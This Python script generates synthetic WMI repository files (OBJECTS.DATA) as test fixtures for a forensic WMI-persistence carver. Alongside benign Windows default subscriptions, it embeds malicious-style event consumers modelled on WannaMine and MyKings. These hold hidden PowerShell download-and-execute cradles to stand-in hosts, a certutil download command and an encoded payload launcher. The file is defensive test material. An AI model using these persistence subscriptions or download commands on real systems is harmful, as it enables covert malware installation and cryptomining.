#!/usr/bin/env python3
"""mkwmirepo.py - writes a test CIM repository objects file (OBJECTS.DATA) holding WMI
permanent event subscriptions, for the unit tests of src/lib/collect/win/wmi.c.

No real OBJECTS.DATA is in the tree, so this lays records out the way the format is
documented, and says here which part comes from where:

  * Pages of 8192 bytes; a page starts with 16-byte object descriptors (record id,
    offset from the page start, size, CRC-32) ended by an all-zero descriptor, then the
    records (libyal dtformats "WMI repository file format", objects data page).
  * Instance record (Vista and later, format 2.1): the class name hash as UTF-16LE hex,
    64 characters of SHA-256 of the upper-cased UTF-16LE class name (XP, format 2.0:
    32 characters of MD5), two FILETIMEs, a u32 size counted from that size field,
    the class name offset, one unknown byte, two state bits per property, the property
    values table (a u32 heap offset for strings, references and arrays, booleans as
    u16, integers inline), a qualifier block (u32 size including itself), the dynamic
    properties byte (1: none) and the data heap: a u32 size with the top bit set, then
    the values: the class name first (at heap offset 0), strings as a flag byte (0:
    8-bit text, 1: UTF-16LE) and a terminated string, arrays as a u32 count and items
    (dtformats; fox-it dissect.cim c_cim.py class_instance_header/DataRegion;
    mandiant flare-wmi python-cim objects.py).
  * Properties are numbered over the class and its superclasses in one case-insensitive
    alphabetical order, so the heap holds CommandLineTemplate before CreatorSID and Name,
    and Name before ScriptingEngine and ScriptText, and Name before Query: that is the
    order PyWMIPersistenceFinder.py's expressions (davidpany/WMI_Forensics) match in
    real repositories.
  * The default subscriptions are the ones Windows installs (BVTFilter/BVTConsumer of
    the Windows 7 era, the SCM Event Log filter and NTEventLog consumer); the
    WannaMine-like one uses the names and query its write-ups report.

What wmi.c relies on is only the class name as a string at the start of a heap behind
a size with its top bit set, the property strings in heap order, and the record header
when it is there (the hash bounds the record); page descriptors, CRCs, FILETIMEs and
the values table are written for realism (and the values table to tell property
strings from binary noise) but the carver never needs the page map.

Usage: mkwmirepo.py OUT [--scenario main|evilbvt|mykings] [--xp]
"""
import argparse
import base64
import hashlib
import random
import struct
import zlib

PAGE = 8192
FILETIME_2019 = 132020000000000000  # 2019-05-06, a FILETIME

EVENT_CONSUMER = {"CreatorSID": "u8[]", "MachineName": "s", "MaximumQueueSize": "u32"}
SCHEMAS = {
    "__EventFilter": {
        "CreatorSID": "u8[]",
        "EventAccess": "s",
        "EventNamespace": "s",
        "Name": "s",
        "Query": "s",
        "QueryLanguage": "s",
    },
    "CommandLineEventConsumer": dict(
        EVENT_CONSUMER,
        CommandLineTemplate="s",
        CreateNewConsole="b",
        CreateNewProcessGroup="b",
        CreateSeparateWowVdm="b",
        CreateSharedWowVdm="b",
        DesktopName="s",
        ExecutablePath="s",
        FillAttribute="u32",
        ForceOffFeedback="b",
        ForceOnFeedback="b",
        KillTimeout="u32",
        Name="s",
        Priority="u32",
        RunInteractively="b",
        ShowWindowCommand="u32",
        UseDefaultErrorMode="b",
        WindowTitle="s",
        WorkingDirectory="s",
        XCoordinate="u32",
        XNumCharacters="u32",
        XSize="u32",
        YCoordinate="u32",
        YNumCharacters="u32",
        YSize="u32",
    ),
    "ActiveScriptEventConsumer": dict(
        EVENT_CONSUMER,
        KillTimeout="u32",
        Name="s",
        ScriptFileName="s",
        ScriptingEngine="s",
        ScriptText="s",
    ),
    "NTEventLogEventConsumer": dict(
        EVENT_CONSUMER,
        Category="u16",
        EventID="u32",
        EventType="u32",
        InsertionStringTemplates="s[]",
        Name="s",
        NameOfRawDataProperty="s",
        NameOfUserSIDProperty="s",
        NumberOfInsertionStrings="u32",
        SourceName="s",
        UNCServerName="s",
    ),
    "LogFileEventConsumer": dict(
        EVENT_CONSUMER,
        Filename="s",
        IsUnicode="b",
        MaximumFileSize="u32",
        Name="s",
        Text="s",
    ),
    "__FilterToConsumerBinding": {
        "Consumer": "s",
        "CreatorSID": "u8[]",
        "DeliverSynchronously": "b",
        "DeliveryQoS": "u32",
        "Filter": "s",
        "MaintainSecurityContext": "b",
        "SlowDownProviders": "b",
    },
}
# S-1-5-21-...-500, the administrator who created the subscription
ADMIN_SID = bytes([1, 5, 0, 0, 0, 0, 0, 5, 21, 0, 0, 0]) + struct.pack(
    "<IIII", 0x4F3A1B2C, 0x11223344, 0x0A0B0C0D, 500)


def cim_string(s):
    try:
        return b"\x00" + s.encode("ascii") + b"\x00"
    except UnicodeEncodeError:
        return b"\x01" + s.encode("utf-16-le") + b"\x00\x00"


def name_hash(cls, xp):
    h = hashlib.md5 if xp else hashlib.sha256
    return h(cls.upper().encode("utf-16-le")).hexdigest().upper().encode("utf-16-le")


def instance(cls, values, xp=False, ts=FILETIME_2019):
    """One instance record of class cls with the given property values."""
    props = sorted(SCHEMAS[cls], key=str.lower)
    heap = bytearray(cim_string(cls))
    state = bytearray((2 * len(props) + 7) // 8)
    toc = bytearray()
    for i, p in enumerate(props):
        t = SCHEMAS[cls][p]
        v = values.get(p)
        if v is None:
            state[i // 4] |= 1 << (2 * (i % 4))  # not initialised (NULL)
            toc += b"\x00" * (2 if t in ("b", "u16") else 4)
            continue
        if t == "s":
            toc += struct.pack("<I", len(heap))
            heap += cim_string(v)
        elif t == "u8[]":
            toc += struct.pack("<I", len(heap))
            heap += struct.pack("<I", len(v)) + bytes(v)
        elif t == "s[]":
            arr = bytearray(struct.pack("<I", len(v)))
            toc += struct.pack("<I", len(heap))
            at = len(heap) + 4 + 4 * len(v)
            items = bytearray()
            for s in v:
                arr += struct.pack("<I", at + len(items))
                items += cim_string(s)
            heap += arr + items
        elif t == "b":
            toc += struct.pack("<H", 0xFFFF if v else 0)
        elif t == "u16":
            toc += struct.pack("<H", v)
        else:
            toc += struct.pack("<I", v)
    body = struct.pack("<I", 0) + b"\x00" + bytes(state) + bytes(toc)
    body += struct.pack("<I", 4) + b"\x01"  # no qualifiers, no dynamic properties
    body += struct.pack("<I", len(heap) | 0x80000000) + bytes(heap)
    return name_hash(cls, xp) + struct.pack("<QQI", ts, ts, 4 + len(body)) + body


def class_definition(cls, superclass):
    """A class definition record as far as a carver sees it: the superclass name in
    UTF-16, then a property heap that starts with the class name and holds the property
    names and type qualifier values (never an instance)."""
    heap = bytearray(cim_string(cls))
    for p in sorted(SCHEMAS[cls], key=str.lower):
        heap += cim_string(p)
        heap += cim_string("string" if SCHEMAS[cls][p] == "s" else "uint32")
    sup = superclass.encode("utf-16-le")
    rec = struct.pack("<I", len(superclass)) + sup + struct.pack("<Q", FILETIME_2019)
    rest = b"\x00" + struct.pack("<II", 0, 0) + struct.pack("<I", len(superclass) + 8)
    rest += cim_string(superclass) + struct.pack("<I", len(superclass))
    rest += struct.pack("<I", 4) + struct.pack("<I", 0)  # no qualifiers, no properties
    rest += struct.pack("<I", len(heap) | 0x80000000) + bytes(heap)
    rest += struct.pack("<I", 0x80000000)  # empty methods block
    return rec + struct.pack("<I", 4 + len(rest)) + rest


def page(records, first_id, with_descriptors=True):
    """One 8 KiB page; records must fit."""
    desc = bytearray()
    off = 16 * (len(records) + 1)
    data = bytearray()
    for i, r in enumerate(records):
        desc += struct.pack("<IIII", first_id + i, off + len(data), len(r), zlib.crc32(r))
        data += r
    out = (desc + b"\x00" * 16 if with_descriptors else b"\x00" * len(desc) + b"\x00" * 16)
    out += data
    if len(out) > PAGE:
        raise SystemExit("records do not fit a page")
    return bytes(out) + b"\x00" * (PAGE - len(out))


def ps_enc(script):
    return base64.b64encode(script.encode("utf-16-le")).decode()


WANNAMINE_QUERY = ("SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance "
                   "ISA 'Win32_PerfFormattedData_PerfOS_System'")
WANNAMINE_CMD = "powershell.exe -NoP -NonI -W Hidden -E " + ps_enc(
    "$mon=([WmiClass]'root\\default:systemcore_Updater').Properties['mon'].Value;"
    "iex([Text.Encoding]::ASCII.GetString([Convert]::FromBase64String($mon)))")
WANNAMINE_OLD_CMD = "powershell.exe -NoP -NonI -W Hidden -E " + ps_enc(
    "iex(New-Object Net.WebClient).DownloadString('http://172.16.0.9:8000/info.vbs')")
VBS_TEXT = ("' 系统性能监视\r\n"
            "Set s = CreateObject(\"WScript.Shell\")\r\n"
            "s.Run \"powershell -w hidden -c IEX(New-Object Net.WebClient).DownloadString("
            "'http://45.32.10.7/xmr.ps1')\", 0, False\r\n")
BVT_QUERY = ("SELECT * FROM __InstanceModificationEvent WITHIN 60 WHERE TargetInstance ISA "
             "\"Win32_Processor\" AND TargetInstance.LoadPercentage > 99")


def scenario_main(xp):
    rnd = random.Random(7413)
    pages = []
    wm_filter = instance("__EventFilter", {
        "CreatorSID": ADMIN_SID, "EventNamespace": "root\\cimv2",
        "Name": "DSM Event Log Filter", "Query": WANNAMINE_QUERY, "QueryLanguage": "WQL"}, xp)
    wm_consumer = instance("CommandLineEventConsumer", {
        "CommandLineTemplate": WANNAMINE_CMD, "CreatorSID": ADMIN_SID, "KillTimeout": 0,
        "Name": "DSM Event Log Consumer", "Priority": 32, "RunInteractively": False,
        "ShowWindowCommand": 0}, xp)
    wm_binding = instance("__FilterToConsumerBinding", {
        "Consumer": "CommandLineEventConsumer.Name=\"DSM Event Log Consumer\"",
        "CreatorSID": ADMIN_SID, "DeliveryQoS": 0, "DeliverSynchronously": False,
        "Filter": "__EventFilter.Name=\"DSM Event Log Filter\"",
        "MaintainSecurityContext": False, "SlowDownProviders": False}, xp)
    vbs_filter = instance("__EventFilter", {
        "CreatorSID": ADMIN_SID, "EventNamespace": "root\\cimv2", "Name": "PerfMonFilter",
        "Query": "SELECT * FROM __InstanceCreationEvent WITHIN 5 WHERE TargetInstance ISA "
                 "'Win32_LogonSession'",
        "QueryLanguage": "WQL"}, xp)
    vbs_consumer = instance("ActiveScriptEventConsumer", {
        "CreatorSID": ADMIN_SID, "KillTimeout": 0, "Name": "PerfMonScript",
        "ScriptingEngine": "VBScript", "ScriptText": VBS_TEXT}, xp)
    vbs_binding = instance("__FilterToConsumerBinding", {
        "Consumer": "\\\\.\\root\\subscription:ActiveScriptEventConsumer.Name=\"PerfMonScript\"",
        "CreatorSID": ADMIN_SID, "Filter": "\\\\.\\root\\subscription:__EventFilter.Name="
        "\"PerfMonFilter\""}, xp)
    scm_filter = instance("__EventFilter", {
        "CreatorSID": bytes([1, 1, 0, 0, 0, 0, 0, 5, 18, 0, 0, 0]),
        "EventNamespace": "root\\cimv2", "Name": "SCM Event Log Filter",
        "Query": "select * from MSFT_SCMEventLogEvent", "QueryLanguage": "WQL"}, xp)
    scm_consumer = instance("NTEventLogEventConsumer", {
        "Category": 0, "CreatorSID": bytes([1, 1, 0, 0, 0, 0, 0, 5, 18, 0, 0, 0]),
        "EventID": 0, "EventType": 1, "InsertionStringTemplates": [""],
        "Name": "SCM Event Log Consumer", "NumberOfInsertionStrings": 0,
        "SourceName": "Service Control Manager"}, xp)
    scm_binding = instance("__FilterToConsumerBinding", {
        "Consumer": "NTEventLogEventConsumer.Name=\"SCM Event Log Consumer\"",
        "Filter": "__EventFilter.Name=\"SCM Event Log Filter\""}, xp)
    bvt_filter = instance("__EventFilter", {
        "EventNamespace": "root\\cimv2", "Name": "BVTFilter", "Query": BVT_QUERY,
        "QueryLanguage": "WQL"}, xp)
    bvt_consumer = instance("CommandLineEventConsumer", {
        "CommandLineTemplate": "cscript KernCap.vbs", "Name": "BVTConsumer",
        "WorkingDirectory": "C:\\tools\\kernrate"}, xp)
    bvt_binding = instance("__FilterToConsumerBinding", {
        "Consumer": "CommandLineEventConsumer.Name=\"BVTConsumer\"",
        "Filter": "__EventFilter.Name=\"BVTFilter\""}, xp)

    pages.append(page([class_definition("CommandLineEventConsumer", "__EventConsumer"),
                       class_definition("__EventFilter", "__IndicationRelated")], 100))
    pages.append(page([scm_filter, scm_consumer, scm_binding], 200))
    pages.append(page([bvt_filter, bvt_consumer, bvt_binding], 300))
    pages.append(bytes(rnd.getrandbits(8) for _ in range(PAGE)))  # junk
    pages.append(page([wm_filter, wm_consumer, wm_binding], 400))
    pages.append(page([vbs_filter, vbs_consumer, vbs_binding], 500))
    # a freed page: no descriptors, an old copy of the WannaMine consumer (the same
    # object again) and an earlier version of it (a different command: a second object)
    old = instance("CommandLineEventConsumer", {
        "CommandLineTemplate": WANNAMINE_OLD_CMD, "CreatorSID": ADMIN_SID,
        "Name": "DSM Event Log Consumer"}, xp, ts=FILETIME_2019 - 10**12)
    pages.append(page([wm_consumer, old], 600, with_descriptors=False))
    # damaged: a record whose header was overwritten (the heap survives), a class name
    # without a heap size in front of it, and a record cut by the end of the page
    damaged = bytearray(instance("LogFileEventConsumer", {
        "Filename": "C:\\Windows\\Temp\\wmi.log", "Name": "LogIt", "Text": "%TargetInstance%"},
        xp))
    hl = (64 if xp else 128) + 20  # the hash, the FILETIMEs and the record size
    damaged[0:hl] = bytes(rnd.getrandbits(8) for _ in range(hl))
    loose = b"\x01\x00\x00\x00\x00CommandLineEventConsumer\x00\x00calc.exe\x00\x00Loose\x00"
    cut = instance("CommandLineEventConsumer", {
        "CommandLineTemplate": "cmd.exe /c " + "A" * 3000, "Name": "CutConsumer"}, xp)
    p = bytearray(page([bytes(damaged), loose], 700))
    p[PAGE - 1200:] = cut[:1200]
    pages.append(bytes(p))
    return b"".join(pages)


def scenario_evilbvt(xp):
    """A consumer named like the Windows one but running PowerShell."""
    f = instance("__EventFilter", {
        "EventNamespace": "root\\cimv2", "Name": "BVTFilter", "Query": BVT_QUERY,
        "QueryLanguage": "WQL"}, xp)
    c = instance("CommandLineEventConsumer", {
        "CommandLineTemplate": "powershell -nop -w hidden -enc " + ps_enc("iex(iwr http://x/m)"),
        "Name": "BVTConsumer", "WorkingDirectory": "C:\\tools\\kernrate"}, xp)
    s = instance("NTEventLogEventConsumer", {"Name": "SCM Event Log Consumer"}, xp)
    s2 = instance("CommandLineEventConsumer", {
        "CommandLineTemplate": "cmd /c certutil -urlcache -f http://x/a.exe a.exe",
        "Name": "SCM Event Log Consumer"}, xp)
    b = instance("__FilterToConsumerBinding", {
        "Consumer": "CommandLineEventConsumer.Name=\"BVTConsumer\"",
        "Filter": "__EventFilter.Name=\"BVTFilter\""}, xp)
    return page([f, c, s, s2, b], 1)


def scenario_mykings(xp):
    """MyKings' timer subscription, whose command alone says little: its names give it
    away; beside it an admin's own consumer named like no campaign."""
    f = instance("__EventFilter", {
        "CreatorSID": ADMIN_SID, "EventNamespace": "root\\cimv2",
        "Name": "fuckyoumm2_filter",
        "Query": "select * from __timerevent where timerid=\"fuckyoumm2_itimer\"",
        "QueryLanguage": "WQL"}, xp)
    c = instance("CommandLineEventConsumer", {
        "CommandLineTemplate": "cmd.exe /c start /b wmic process call create "
                               "\"C:\\Windows\\debug\\item.dat\"",
        "CreatorSID": ADMIN_SID, "Name": "fuckyoumm2_consumer"}, xp)
    b = instance("__FilterToConsumerBinding", {
        "Consumer": "CommandLineEventConsumer.Name=\"fuckyoumm2_consumer\"",
        "CreatorSID": ADMIN_SID, "Filter": "__EventFilter.Name=\"fuckyoumm2_filter\""}, xp)
    scm_filter = instance("__EventFilter", {
        "EventNamespace": "root\\cimv2", "Name": "SCM Event Log Filter",
        "Query": "select * from MSFT_SCMEventLogEvent", "QueryLanguage": "WQL"}, xp)
    scm_consumer = instance("NTEventLogEventConsumer", {
        "Name": "SCM Event Log Consumer", "SourceName": "Service Control Manager"}, xp)
    scm_binding = instance("__FilterToConsumerBinding", {
        "Consumer": "NTEventLogEventConsumer.Name=\"SCM Event Log Consumer\"",
        "Filter": "__EventFilter.Name=\"SCM Event Log Filter\""}, xp)
    return page([f, c, b], 1) + page([scm_filter, scm_consumer, scm_binding], 100)


SCENARIOS = {"main": scenario_main, "evilbvt": scenario_evilbvt, "mykings": scenario_mykings}


def main():
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("out")
    ap.add_argument("--scenario", choices=sorted(SCENARIOS), default="main")
    ap.add_argument("--xp", action="store_true", help="format 2.0: MD5 name hashes")
    a = ap.parse_args()
    data = SCENARIOS[a.scenario](a.xp)
    with open(a.out, "wb") as f:
        f.write(data)


if __name__ == "__main__":
    main()
